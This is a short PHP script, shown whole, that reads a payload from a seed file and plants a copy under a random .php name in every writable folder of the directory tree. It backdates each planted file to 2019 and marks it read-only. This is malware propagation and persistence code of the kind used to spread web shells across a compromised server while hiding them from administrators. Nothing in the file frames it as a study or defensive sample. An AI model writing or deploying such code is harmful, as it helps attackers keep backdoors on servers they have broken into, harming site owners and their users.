<?php
// copies one script into every writable folder, dated back and made read-only
function old_date()
{
    return strtotime('2019-03-14 08:00:00');
}

$payload = file_get_contents(__DIR__ . '/seed.txt');
$it = new RecursiveIteratorIterator(
    new RecursiveDirectoryIterator(__DIR__, FilesystemIterator::SKIP_DOTS),
    RecursiveIteratorIterator::SELF_FIRST
);
foreach ($it as $entry) {
    if ($entry->isDir() && is_writable($entry->getPathname())) {
        $target = $entry->getPathname() . '/' . substr(md5(mt_rand()), 0, 8) . '.php';
        file_put_contents($target, $payload);
        $when = old_date();
        touch($target, $when);
        chmod($target, 0444);
    }
}
